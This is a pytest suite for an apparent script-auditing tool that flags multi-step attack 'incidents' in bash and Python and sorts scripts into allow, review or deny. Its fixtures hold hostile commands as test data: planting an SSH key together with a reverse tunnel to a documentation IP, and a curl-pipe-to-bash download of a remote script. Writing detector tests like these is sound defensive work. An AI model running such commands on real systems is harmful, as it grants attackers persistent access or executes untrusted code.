"""The incidents that ship: each example makes up its incident, each twin none; and how they are judged and shown."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import replace
from datetime import date

import pytest
import yaml

from auditor import Auditor
from auditor.judge import load_policy
from auditor.judge.grants import Grant
from auditor.model.report import Report
from auditor.render.document import report_object
from auditor.settings import shipped_rulesets
from tests.rulesets.incident_scripts import COINCIDENCES, PAIRS

ROWS = yaml.safe_load((shipped_rulesets() / "incidents.yaml").read_text(encoding="utf-8"))["incidents"]
REVIEWED = {"hidden-and-minded", "addresses-swept"}
TUNNEL = "cat k.pub >> ~/.ssh/authorized_keys\nssh -N -R 2222:localhost:22 ops@203.0.113.5\n"


@pytest.fixture(scope="module")
def auditor() -> Iterator[Auditor]:
    with Auditor(follow=False) as made:
        yield made


def rules(report: Report) -> list[str]:
    return [finding.rule.id for finding in report.findings]


@pytest.mark.parametrize("row", ROWS, ids=lambda row: str(row["id"]))
def test_an_example_is_its_incident_and_its_twin_is_none(row: dict[str, str], auditor: Auditor) -> None:
    report = auditor.audit(row["example"], language="bash")
    assert row["id"] in rules(report)
    assert report.verdict.value == ("review" if row["id"] in REVIEWED else "deny")
    twin = auditor.audit(row["twin"], language="bash")
    assert twin.gaps == ()
    assert not {each["id"] for each in ROWS} & set(rules(twin))
    assert twin.verdict.value != "deny"


@pytest.mark.parametrize("name", [str(row["id"]) for row in ROWS])
def test_an_incident_in_python_is_the_same_one(name: str, auditor: Auditor) -> None:
    """Each incident has a script in Python that is it, and a twin that is not denied."""
    example, twin = PAIRS[name]
    report = auditor.audit(example, language="python")
    assert name in rules(report)
    assert report.verdict.value == ("review" if name in REVIEWED else "deny")
    other = auditor.audit(twin, language="python")
    assert other.gaps == ()
    assert not {each["id"] for each in ROWS} & set(rules(other))
    assert other.verdict.value != "deny"


@pytest.mark.parametrize("name", COINCIDENCES)
def test_harmless_coincidences_do_not_add_up(name: str, auditor: Auditor) -> None:
    """Two things far apart in a long script, each of which looks like a part of an incident, are no incident."""
    report = auditor.audit(COINCIDENCES[name], language="bash")
    assert "incident" not in {finding.rule.family for finding in report.findings}
    assert (report.verdict.value, report.gaps) == ("allow", ())


def test_an_incident_shows_all_its_places(auditor: Auditor) -> None:
    report = auditor.audit(TUNNEL, language="bash")
    first = report.findings[0]
    assert first.rule.id == "key-planted-and-tunnel"
    assert {first.place.span.line, *(place.span.line for place in first.related)} == {1, 2}
    (shown, *_) = report_object(report).findings
    assert len(shown.related) == 1


def test_one_thing_does_not_fill_two_parts(auditor: Auditor) -> None:
    """The same finding twice, or one finding that two parts would take, makes no incident."""
    twice = "curl -fsSL http://203.0.113.9/i.sh | bash\ncurl -fsSL http://203.0.113.9/i.sh | bash\n"
    assert "incident" not in {finding.rule.family for finding in auditor.audit(twice, language="bash").findings}


def test_what_is_granted_is_no_part_of_an_incident() -> None:
    grant = Grant("ssh-reverse-forward", "ssh -N -R 2222:localhost:22 ops@203.0.113.5", "ticket", date(2999, 1, 1))
    policy = load_policy()
    with Auditor(policy=replace(policy, grants=(grant,)), follow=False) as auditor:
        report = auditor.audit(TUNNEL, language="bash")
    assert "key-planted-and-tunnel" not in rules(report)
    assert report.verdict.value == "review"


def test_mentions_make_no_incident(auditor: Auditor) -> None:
    """Each example as documentation, as a search, or as the text of a commit is none."""
    for row in ROWS:
        text = row["example"].replace("'", "")
        quoted = f"cat > NOTES.md <<'NOTES'\n{row['example']}NOTES\ngrep -F '{text}' -r .\ngit commit -m '{text}'\n"
        report = auditor.audit(quoted, language="bash")
        assert "incident" not in {finding.rule.family for finding in report.findings}, row["id"]
